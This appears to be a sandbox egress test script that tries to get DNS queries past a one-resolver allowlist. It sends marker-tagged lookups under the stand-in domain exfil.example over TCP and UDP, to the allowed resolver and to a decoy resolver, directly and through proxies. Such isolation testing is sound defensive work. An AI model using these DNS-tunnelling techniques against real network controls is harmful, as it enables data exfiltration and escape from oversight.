"""DNS past an allowlist that allows one resolver over UDP: the same resolver over TCP, and a second resolver
(a lab decoy on a documentation address) over UDP and TCP, directly and through every proxy the box was given.
Each query name carries this execution's marker."""
import sandcheck_payload as sc

SECOND = "198.51.100.53"

args = sc.start()
sc.allowlist_control(args)
m = args["marker"]
resolver = args["resolver"]
for label, server in (("allowed", resolver), ("second", SECOND)):
    name = "%s-dns-%s.x.exfil.example" % (m, label)
    if label == "second":
        print("udp %s: %s" % (server, sc.udp_send(server, 53, sc.dns_query(name))))
    tcp_name = "%s-dnstcp-%s.x.exfil.example" % (m, label)
    sc.route_attempts("dns-tcp %s" % server, server, 53, sc.dns_tcp_frame(tcp_name), direct=True, half_close=True)
sc.done(args)
